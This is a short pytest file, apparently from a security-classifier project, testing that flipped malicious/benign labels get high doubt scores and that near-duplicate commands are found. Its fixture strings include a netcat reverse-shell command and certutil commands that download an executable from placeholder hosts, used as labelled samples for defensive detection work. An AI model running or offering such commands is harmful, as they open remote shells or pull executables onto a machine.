"""Out-of-fold label doubt and similar examples: flipped labels are doubted, near-copies are found."""

from __future__ import annotations

import numpy as np

from distilsec.methods.label_doubt import label_doubt
from distilsec.methods.similar_examples import similar_examples
from tests.conftest import make_texts


def test_flipped_training_labels_get_the_highest_doubt():
    texts, labels, _ = make_texts(200, seed=3)
    flipped = [0, 1, 2, 3, 4, 5]
    noisy = list(labels)
    for i in flipped:
        noisy[i] = "benign" if noisy[i] == "malicious" else "malicious"
    doubt, other = label_doubt(texts, noisy, ["nc -e /bin/sh 10.0.0.9 4444"], ["benign"])
    top = set(np.argsort(-doubt)[: len(flipped)].tolist())
    assert len(top & set(flipped)) >= 5
    assert other[0] > 0.5  # a reverse shell labelled benign is doubted too


def test_similar_examples_exclude_the_item_itself():
    train = ["certutil -urlcache -f http://a/x x.exe", "ls -la", "certutil -urlcache -f http://b/y y.exe"]
    near = similar_examples(train, train[:1], k=2, exclude=[0])
    assert near.index[0][0] == 2 and near.similarity[0][0] > 0.5 and 0 not in near.index[0]
